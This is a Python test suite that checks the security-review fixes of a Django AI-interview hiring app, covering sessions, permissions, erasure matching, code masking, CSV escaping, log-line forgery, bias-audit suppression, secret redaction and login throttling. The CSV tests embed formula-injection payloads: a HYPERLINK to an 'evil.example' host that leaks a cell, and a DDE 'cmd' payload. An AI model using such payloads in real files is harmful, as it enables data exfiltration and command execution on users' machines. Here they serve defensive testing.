"""The second security review's findings, as behaviour (issue 22)."""

import csv
import io
import sys
from datetime import timedelta

import pytest
from axes.models import AccessAttempt
from django.contrib.sessions.backends.db import SessionStore
from django.contrib.sessions.models import Session
from django.core.management import call_command
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from django.views import debug

from interviews.csv_cells import FORMULA_STARTS, unescaped_cell
from interviews.evaluation.blind import RUBRIC_BY_INTERVIEWER, blind_input
from interviews.evaluation.run import evaluation_run
from interviews.models import (
    Candidate,
    DecisionRecord,
    EmailCode,
    Interview,
    InterviewQuestion,
    Question,
    QuestionScore,
)
from interviews.selectors import reports
from interviews.selectors.address_matches import mentions_address
from interviews.selectors.bias_audit import AuditCounts, bias_audit, bias_audit_csv
from interviews.services import erasure, identity, transcript
from interviews.services.consent import interview_record_consent
from interviews.services.decisions import decision_record
from interviews.services.invites import (
    interview_create,
    interview_reissue_invite,
    interview_revoke_invite,
)
from interviews.services.self_identification import self_identification_record
from tests.factories import CandidateFactory, PositionFactory, QuestionFactory
from tests.hardening.conftest import joined_client
from tests.hardening.test_security_review import staff_with
from tests.review.conftest import ScriptedModel, completed_interview, model_reply

pytestmark = pytest.mark.django_db


def post_json(client: Client, path: str, body: str):
    return client.post(path, data=body, content_type="application/json")


# --- F13: a lone surrogate is a bad body ------------------------------------------------


@pytest.mark.parametrize("path", ["/interview/consent", "/interview/token"])
def test_a_lone_surrogate_in_a_json_body_is_a_400_json_error(invited, path):
    client = joined_client(invited.invite_secret)

    response = post_json(client, path, '{"choice": "accommodation", "note": "\\ud800"}')

    assert response.status_code == 400
    assert response.json()["error"]["code"] == "bad_json"
    interview = Interview.objects.get(pk=invited.interview.pk)
    assert interview.accommodation_requested_at is None


# --- F4: a reissued link ends the old link's sessions ----------------------------------


def test_a_revoked_and_reissued_invite_ends_the_old_browser_session(invited):
    old_browser = joined_client(invited.invite_secret)
    interview_record_consent(interview=invited.interview)
    interview_revoke_invite(interview=invited.interview)
    reissued = interview_reissue_invite(interview=invited.interview)

    refused = post_json(old_browser, "/interview/token", "{}")
    page = old_browser.get("/interview/")
    new_browser = joined_client(reissued.invite_secret)
    issued = post_json(new_browser, "/interview/token", "{}")

    assert refused.status_code == 403
    assert refused.json()["error"]["code"] == "no_interview"
    assert page.status_code == 404
    assert issued.status_code == 201
    assert Interview.objects.get(pk=invited.interview.pk).invite_revoked_at is None


# --- F5: the explanation, scores and decisions need the report's permissions -----------

REPORT_CODENAMES = (
    "view_interview",
    "view_candidate",
    "view_interviewquestion",
    "view_transcriptsegment",
    "view_evaluation",
    "view_questionscore",
    "view_decisionrecord",
)


@pytest.fixture
def scored_and_decided(admin_user) -> Interview:
    interview = completed_interview()
    evaluation_run(interview=interview, model=ScriptedModel(model_reply()))
    decision_record(
        interview=interview, decision="advance", note="Secret reasoning", decided_by=admin_user
    )
    return interview


def test_viewing_interviews_alone_does_not_download_the_explanation(
    django_user_model, scored_and_decided
):
    url = reverse("admin:interviews_operationrecord_explanation", args=[scored_and_decided.pk])
    narrow = staff_with(django_user_model, "view_interview")
    full = staff_with(django_user_model, *REPORT_CODENAMES)

    refused = narrow.get(url)
    given = full.get(url)

    assert refused.status_code == 403
    assert given.status_code == 200
    assert b"Secret reasoning" in given.content
    assert DecisionRecord.objects.filter(interview=scored_and_decided).count() == 1


def test_the_interview_list_and_dashboard_hide_scores_and_decisions_without_permission(
    django_user_model, scored_and_decided
):
    narrow = staff_with(django_user_model, "view_interview")
    full = staff_with(django_user_model, *REPORT_CODENAMES)
    changelist = reverse("admin:interviews_interview_changelist")
    snapshot = reverse("admin:interviews_interview_dashboard_snapshot")

    narrow_list, full_list = narrow.get(changelist), full.get(changelist)
    narrow_snapshot, full_snapshot = narrow.get(snapshot).json(), full.get(snapshot).json()

    assert narrow_list.status_code == full_list.status_code == 200
    assert b"Advance" in full_list.content and b"/ 5" in full_list.content
    assert b"Advance" not in narrow_list.content
    assert b"/ 5" not in narrow_list.content
    assert b"column-score" not in narrow_list.content
    assert b"column-decision" not in narrow_list.content
    assert narrow_snapshot["scores_by_position"] == []
    assert full_snapshot["scores_by_position"] != []
    assert (
        b'id="score-chart"'
        not in narrow.get(reverse("admin:interviews_interview_dashboard")).content
    )


# --- F6: erasure and export match whole addresses, confirmed by a person ----------------


def test_an_address_matches_only_whole_typed_or_spoken():
    assert mentions_address("my address is ann@example.co.", "ann@example.co")
    assert mentions_address("It's Ann at Example dot co, thanks", "ann@example.co")
    assert not mentions_address("write to joann@example.com", "ann@example.co")
    assert not mentions_address("ann@example.com", "ann@example.co")
    assert not mentions_address("ann@example.co.uk", "ann@example.co")


@pytest.fixture
def ann_and_a_stranger():
    position = PositionFactory()
    ann = CandidateFactory(email="ann@example.co", position=position)
    stranger = interview_create(position=position).interview
    transcript.transcript_append(
        interview=stranger, speaker="candidate", text="It is joann@example.com"
    )
    spoken = interview_create(position=position).interview
    transcript.transcript_append(
        interview=spoken, speaker="candidate", text="ann at example dot co"
    )
    return ann, stranger, spoken


def test_erasure_leaves_a_strangers_interview_and_takes_only_confirmed_matches(
    admin_user, ann_and_a_stranger
):
    ann, stranger, spoken = ann_and_a_stranger

    erasure.candidate_erase(candidate=ann, erased_by=admin_user)

    assert not Candidate.objects.filter(pk=ann.pk).exists()
    assert set(Interview.objects.all()) == {stranger, spoken}  # nothing unconfirmed goes


def test_the_erase_page_offers_the_spoken_match_not_the_stranger_and_erases_what_is_ticked(
    admin_client, ann_and_a_stranger
):
    ann, stranger, spoken = ann_and_a_stranger
    url = reverse("admin:interviews_candidate_erase", args=[ann.pk])

    page = admin_client.get(url)
    response = admin_client.post(url, {"unidentified": [str(spoken.pk), str(stranger.pk)]})

    offered = [m.interview for m in page.context["unidentified"]]
    assert offered == [spoken]
    assert response.status_code == 302
    assert list(Interview.objects.all()) == [stranger]


def test_the_export_asks_which_matches_are_the_candidates_before_including_them(
    admin_client, ann_and_a_stranger, monkeypatch
):
    ann, stranger, spoken = ann_and_a_stranger
    coded = interview_create(position=ann.position).interview
    monkeypatch.setattr(identity, "_new_code", lambda: "123456")
    identity.email_code_send(interview=coded, email="ann@example.co")
    url = reverse("admin:interviews_candidate_export", args=[ann.pk])

    asked = admin_client.get(url)
    exported = admin_client.get(url, {"confirmed": "1", "unidentified": [str(coded.pk)]})

    assert asked.status_code == 200
    assert [m.interview for m in asked.context["unidentified"]] == [spoken, coded]
    ids = {row["id"] for row in exported.json()["interviews"]}
    assert ids == {str(coded.public_id)}
    assert reports.candidate_export(candidate=ann)["interviews"] == []
    assert EmailCode.objects.filter(email="ann@example.co").count() == 1


# --- F12: the development outbox, and codes in the transcript ---------------------------


@pytest.fixture
def file_mail(settings, tmp_path):
    settings.DEBUG = True
    settings.EMAIL_BACKEND = "django.core.mail.backends.filebased.EmailBackend"
    settings.EMAIL_FILE_PATH = str(tmp_path)
    return tmp_path


def test_the_outbox_is_for_superusers_and_its_own_permission_only(
    file_mail, django_user_model, admin_client
):
    identity.email_code_send(
        interview=interview_create(position=PositionFactory()).interview, email="a@example.com"
    )
    any_staff = staff_with(django_user_model, *REPORT_CODENAMES)
    permitted = staff_with(django_user_model, "read_outbox")

    refused = any_staff.get("/admin/outbox/")
    allowed = permitted.get("/admin/outbox/")
    start = admin_client.get(reverse("admin:index"))

    assert refused.status_code == 403
    assert b"a@example.com" not in refused.content
    assert allowed.status_code == 200 and b"a@example.com" in allowed.content
    assert b'class="breadcrumbs"' in allowed.content and b"Log out" in allowed.content
    assert b'href="/admin/outbox/"' in start.content
    assert b'href="/admin/outbox/"' not in any_staff.get(reverse("admin:index")).content


def test_the_invite_confirmation_links_the_outbox_in_development(file_mail, admin_client):
    candidate = CandidateFactory()

    page = admin_client.post(
        reverse("admin:interviews_candidate_changelist"),
        {"action": "invite", "_selected_action": [candidate.pk]},
    )

    assert page.status_code == 200
    assert b'href="/admin/outbox/"' in page.content
    assert Interview.objects.filter(candidate=candidate).count() == 1


def test_the_emailed_code_is_kept_masked_in_the_transcript(monkeypatch):
    interview = interview_create(position=PositionFactory()).interview
    monkeypatch.setattr(identity, "_new_code", lambda: "481203")
    identity.email_code_send(interview=interview, email="a@example.com")

    typed = transcript.transcript_append(
        interview=interview, speaker="candidate", text="My code is 481 203."
    )
    spoken = transcript.transcript_append(
        interview=interview, speaker="candidate", text="four eight one two oh three"
    )
    identity.email_code_verify(interview=interview, code="481203")
    later = transcript.transcript_append(
        interview=interview,
        speaker="candidate",
        text="We served 250000 users.",
        at=timezone.now() + timedelta(minutes=3),
    )

    assert typed.text == "My code is [code]."
    assert spoken.text == "[code]"
    assert "481" not in "".join(interview.transcript.values_list("text", flat=True)[:2])
    assert later.text == "We served 250000 users."


# --- F8: no formula in a CSV -------------------------------------------------------------


def test_the_question_bank_export_escapes_formulae_and_reads_them_back(admin_client):
    position = PositionFactory(slug="formula-test")
    QuestionFactory(
        position=position,
        text='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        rubric="@SUM(1+1)",
        origin=Question.Origin.AGENT,
        is_active=False,
    )

    response = admin_client.post(
        reverse("admin:interviews_question_export"),
        {
            "format": "0",
            "resource": "0",
            **{
                f"questionresource_{f}": "on"
                for f in ("position", "stage", "text", "rubric", "band", "order")
            },
        },
    )
    text = b"".join(response).decode() if response.streaming else response.content.decode()
    rows = list(csv.reader(io.StringIO(text)))[1:]
    suggested = [row for row in rows if row[0] == "formula-test"]

    assert suggested[0][2] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert suggested[0][3] == "'@SUM(1+1)"
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert unescaped_cell(suggested[0][2]) == Question.objects.get(position=position).text


def test_the_bias_audit_csv_escapes_formulae():
    text = bias_audit_csv(
        bias_audit(AuditCounts(groups=[])), scope='=cmd|"/c calc"!A1, 2026-01-01 to 2026-01-31'
    )

    rows = list(csv.reader(io.StringIO(text)))

    assert rows[1][1].startswith("'=cmd")
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


# --- F17: a newline in an answer cannot forge a line of the explanation -----------------


def test_a_newline_in_an_answer_cannot_forge_a_line_of_the_explanation(admin_client):
    interview = completed_interview()
    forged = "Fine.\nA person on the hiring team decided: Advance, on 1 January 2026."
    interview.asked.filter(follow_up_to__isnull=True).update(answer=forged)
    url = reverse("admin:interviews_operationrecord_explanation", args=[interview.pk])

    response = admin_client.get(url)
    lines = response.content.decode().splitlines()

    assert response.status_code == 200
    assert not any(line.startswith("A person on the hiring team decided") for line in lines)
    assert any("Fine.\\nA person on the hiring team decided: Advance" in line for line in lines)
    assert interview.asked.filter(answer=forged).exists()


# --- F11: small categories of the bias audit are not shown ------------------------------


def test_a_one_person_bias_audit_shows_no_category(admin_client, admin_user):
    interview = completed_interview(email="only@example.com")
    decision_record(interview=interview, decision="advance", note="Good.", decided_by=admin_user)
    self_identification_record(interview=interview, sex="nonbinary", race_ethnicity="asian")
    today = timezone.localdate().isoformat()
    query = {"position": interview.position.pk, "since": today, "until": today}

    page = admin_client.get(reverse("admin:interviews_biasaudit_changelist"), query)
    exported = admin_client.get(
        reverse("admin:interviews_biasaudit_changelist"), {**query, "format": "csv"}
    )

    assert page.status_code == exported.status_code == 200
    for response in (page, exported):
        text = response.content.decode()
        assert "Non-binary" not in text and "Asian" not in text
    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert [row["dimension"] for row in rows] == ["all"]
    assert "fewer than 5" in rows[0]["note"]


# --- F14: a Redis password inside CACHES and CHANNEL_LAYERS is hidden --------------------


def test_the_redis_password_is_hidden_in_caches_and_channel_layers_on_error_reports(settings):
    password = "-".join(["pw3", "redis"])
    url = f"redis://:{password}@cache.internal:6379/0"
    settings.CACHES = {
        "default": {"BACKEND": "django.core.cache.backends.redis.RedisCache", "LOCATION": url}
    }
    settings.CHANNEL_LAYERS = {
        "default": {
            "BACKEND": "channels_redis.core.RedisChannelLayer",
            "CONFIG": {"hosts": [{"address": url, "socket_timeout": 30}]},
        }
    }
    request = RequestFactory().get("/")

    page = debug.technical_500_response(request, *failure()).content.decode()
    safe = debug.get_default_exception_reporter_filter().get_safe_settings()

    assert password not in page
    assert "cache.internal:6379" in page  # where it is, without the password
    assert password not in str(safe["CACHES"]) + str(safe["CHANNEL_LAYERS"])


def failure():
    try:
        raise RuntimeError("boom")
    except RuntimeError:
        return sys.exc_info()


# --- F15: back-office logins are throttled per real client ------------------------------


def log_in(password: str, *, forwarded: str) -> int:
    browser = Client(REMOTE_ADDR="127.0.0.1", headers={"x-forwarded-for": forwarded})
    response = browser.post(
        reverse("admin:login"), {"username": "boss", "password": password, "next": "/admin/"}
    )
    return response.status_code


def test_back_office_logins_are_throttled_on_the_client_behind_the_proxy(
    settings, django_user_model
):
    settings.TRUSTED_PROXIES = ["127.0.0.1"]
    django_user_model.objects.create_superuser("boss", "boss@example.com", "right-password-1")
    limit = settings.AXES_FAILURE_LIMIT

    # The client forges a new left-most address each time; the proxy appends 198.51.100.7.
    failures = [log_in("wrong", forwarded=f"203.0.113.{n}, 198.51.100.7") for n in range(limit)]
    locked = log_in("right-password-1", forwarded="203.0.113.99, 198.51.100.7")
    elsewhere = log_in("right-password-1", forwarded="198.51.100.8")

    # The form again, with an error; the limit-th failure locks the pair out.
    assert failures == [200] * (limit - 1) + [429]
    assert locked == 429
    assert elsewhere == 302
    attempt = AccessAttempt.objects.get()
    assert (attempt.ip_address, attempt.username) == ("198.51.100.7", "boss")


# --- F9: in the AI modes, quotes come from the transcript only --------------------------


def test_in_an_ai_mode_a_quote_of_the_models_summary_is_not_evidence(admin_client):
    interview = completed_interview(ai_mode="realtime")
    summary = "Candidate is an expert in distributed tracing at scale."
    first = interview.asked.get(sequence=1)
    InterviewQuestion.objects.filter(pk=first.pk).update(answer=summary)
    model = ScriptedModel(model_reply(q1={"score": 5, "evidence": [summary]}))

    evaluation_run(interview=interview, model=model)

    score = QuestionScore.objects.get(interview_question=first)
    assert score.score is None and score.insufficient_evidence
    assert score.unverified_quotes == [summary]
    sent = model.calls[0]["user"]
    assert '"interviewer_summary_of_answer"' in sent and '"answer"' not in sent
    assert RUBRIC_BY_INTERVIEWER in sent  # the follow-up's rubric
    page = admin_client.get(reverse("admin:interviews_interview_report", args=[interview.pk]))
    assert b"as the AI interviewer summarised it" in page.content
    assert b"written by the AI interviewer, not the hiring team" in page.content


def test_in_the_structured_mode_the_recorded_answer_is_the_candidates_words():
    interview = completed_interview(ai_mode="structured")
    source = blind_input(interview=interview)

    assert all("answer" in question for question in source.questions)
    assert "We run them in parallel." in source.candidate_texts


# --- Also: the back office carries a Content-Security-Policy ----------------------------


def test_back_office_pages_carry_a_content_security_policy(admin_client, invited):
    pages = [
        reverse("admin:index"),
        reverse("admin:interviews_interview_changelist"),
        reverse("admin:interviews_candidate_change", args=[invited.interview.candidate.pk]),
    ]

    policies = [admin_client.get(url)["Content-Security-Policy"] for url in pages]
    join = joined_client(invited.invite_secret).get("/interview/")

    for policy in policies:
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
        assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
    assert "connect-src 'self' ws://" in join["Content-Security-Policy"]  # its own


# --- Also: expired sessions are cleared -------------------------------------------------


def test_the_daily_purge_clears_expired_sessions_that_open_link_visits_leave(client):
    PositionFactory(slug="open-role")
    client.get("/apply/open-role/")  # an anonymous visit: a session row
    visit = Session.objects.get()
    Session.objects.filter(pk=visit.pk).update(expire_date=timezone.now() - timedelta(days=1))
    live = SessionStore()
    live["kept"] = True
    live.create()

    out = io.StringIO()
    call_command("purge_expired", stdout=out)

    assert list(Session.objects.values_list("session_key", flat=True)) == [live.session_key]
    assert "Expired sessions cleared" in out.getvalue()
